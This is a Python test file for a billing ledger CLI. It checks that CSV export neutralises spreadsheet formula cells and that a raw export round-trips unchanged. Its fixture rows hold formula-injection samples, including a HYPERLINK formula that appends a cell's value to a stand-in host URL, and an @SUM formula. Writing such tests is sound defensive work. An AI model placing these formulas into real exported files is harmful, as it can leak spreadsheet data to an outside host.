"""``ledger export --format csv`` neutralises formula cells as ``check --format csv`` does;
``--raw`` keeps the export byte-exact for machines (issue 16 point 9)."""

from __future__ import annotations

from pathlib import Path

from click.testing import CliRunner

from billing_rules import cli

HEADER = "invoice_id;date;practitioner_id;patient_id;birth_date;codes;note\n"
ROWS = (
    'F1;2024-02-05;1;=HYPERLINK("http://x/"&A1);1950-01-01;G;@SUM(1+1)\n'
    "F2;2024-02-05;1;+33612345678;1950-01-01;G;-2\n"
    "F3;2024-02-05;1;P3;1950-01-01;G;ordinaire\n"
)


def _run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli.main, list(args))
    return result.exit_code, result.stdout


def _ledger(tmp_path: Path) -> Path:
    day = tmp_path / "jour.csv"
    day.write_text(HEADER + ROWS, encoding="utf-8")
    ledger = tmp_path / "registre.db"
    code, _ = _run("ledger", "import", str(day), "--ledger", str(ledger))
    assert code == 0
    return ledger


def test_formula_cells_are_neutralised(tmp_path: Path) -> None:
    ledger = _ledger(tmp_path)
    code, text = _run("ledger", "export", "--ledger", str(ledger))
    assert code == 0
    cells = [cell for line in text.splitlines()[1:] for cell in line.split(";")]
    for cell in cells:
        bare = cell.strip('"')
        assert not bare.startswith(("=", "+", "-", "@")), cell
    assert "'=HYPERLINK" in text and "'+33612345678" in text and "'@SUM" in text and "'-2" in text


def test_raw_export_round_trips_byte_exact(tmp_path: Path) -> None:
    ledger = _ledger(tmp_path)
    first = tmp_path / "export.csv"
    code, _ = _run("ledger", "export", "--ledger", str(ledger), "--raw", "--output", str(first))
    assert code == 0
    assert "=HYPERLINK" in first.read_text(encoding="utf-8")
    assert "'=" not in first.read_text(encoding="utf-8")
    again = tmp_path / "registre-2.db"
    code, _ = _run("ledger", "import", str(first), "--ledger", str(again))
    assert code == 0
    second = tmp_path / "export-2.csv"
    code, _ = _run("ledger", "export", "--ledger", str(again), "--raw", "--output", str(second))
    assert code == 0
    assert second.read_bytes() == first.read_bytes()
